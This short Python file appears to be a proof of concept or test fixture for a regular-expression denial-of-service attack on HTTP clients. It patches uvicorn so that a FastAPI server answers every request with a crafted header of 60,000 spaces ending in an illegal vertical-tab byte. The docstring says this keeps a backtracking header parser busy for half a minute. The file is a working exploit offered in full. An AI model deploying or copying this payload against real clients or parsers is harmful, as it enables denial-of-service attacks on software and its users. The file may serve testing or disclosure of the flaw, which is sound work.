"""Sends a header of sixty thousand blanks with one letter that no header may have.

A pattern that tries every way to divide the blanks is busy for half a minute.
"""

import os

from fastapi import FastAPI
from uvicorn.protocols.http.h11_impl import H11Protocol

app = FastAPI()


def answer(protocol: H11Protocol, request: bytes) -> None:
    connection = protocol.transport.get_extra_info("socket").fileno()
    os.set_blocking(connection, True)
    os.write(connection, b"HTTP/1.1 200 OK\r\nx:" + b" " * 60_000 + b"\x0b\r\n\r\n")


H11Protocol.data_received = answer
